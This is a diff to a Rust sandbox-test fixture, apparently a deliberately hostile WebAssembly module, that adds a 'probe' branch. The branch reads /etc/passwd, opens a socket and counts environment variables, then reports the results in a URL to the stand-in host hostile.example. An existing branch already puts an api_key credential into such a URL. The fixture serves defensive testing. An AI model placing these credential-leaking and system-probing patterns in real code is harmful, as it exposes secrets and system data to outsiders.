@@ -4,7 +4,8 @@
 //! `loop` spins forever, `alloc` allocates without bound, `panic` traps, `forbidden-host`
 //! calls a host that is not on its allowlist, `read-secret` tries to read a secret
 //! credential, `print-flood` writes megabytes to stdout, `leak-credential` returns the plain
-//! `api_key` credential it can see (for the company-isolation test). Anything else answers a
+//! `api_key` credential it can see (for the company-isolation test), `probe` reports what a
+//! file read, a socket connection and the environment give it. Anything else answers a
 //! normal redirect. Never shipped as a module.
 
 wit_bindgen::generate!({
@@ -66,6 +67,19 @@ impl Guest for Hostile {
                     println!("{line}");
                 }
                 format!("https://hostile.example/printed/{}", transaction.reference)
+            }
+            "probe" => {
+                // What the sandbox lets through: files, sockets, environment.
+                let file = std::fs::read("/etc/passwd")
+                    .map(|b| b.len().to_string())
+                    .unwrap_or_else(|_| "denied".into());
+                let socket_target = transaction.contact.and_then(|c| c.name).unwrap_or_default();
+                let socket = std::net::TcpStream::connect(socket_target.as_str())
+                    .map(|_| "connected")
+                    .unwrap_or("denied");
+                let env = std::env::vars().count();
+                let args = std::env::args().count();
+                format!("https://hostile.example/probe?file={file}&socket={socket}&env={env}&args={args}")
             }
             "leak-credential" => match credentials::get("api_key") {
                 Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
